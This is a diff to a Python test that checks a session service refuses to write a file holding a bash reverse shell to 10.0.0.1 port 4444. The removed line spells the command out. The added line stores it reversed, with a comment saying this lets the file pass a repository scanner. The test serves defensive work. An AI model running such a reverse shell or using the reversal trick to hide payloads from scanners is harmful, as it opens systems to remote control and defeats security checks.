@@ -91,8 +91,10 @@ def _session_survives(how):
         eq(expect(_op(srv, uid, op="read_file", path="a.txt"), 200).json()["content"],
            "hello", "read before the restart")
         expect(_op(srv, uid, op="write_file", path="b.txt", content="written"), 200)
-        blocked = _op(srv, uid, op="write_file", path="x.sh",
-                      content="bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
+        # a reverse shell, spelled backwards here so that this file passes the guard
+        # (test_guard_views scans the repository)
+        shell = "1&>0 4444/1.0.0.01/pct/ved/ &>i- hsab"[::-1]
+        blocked = _op(srv, uid, op="write_file", path="x.sh", content=shell)
         expect_error(blocked, 422)
         before = expect(srv.get("/v1/relay/sessions/" + uid), 200).json()
         log_before = expect(srv.get("/v1/relay/sessions/%s/log" % uid), 200).json()["entries"]
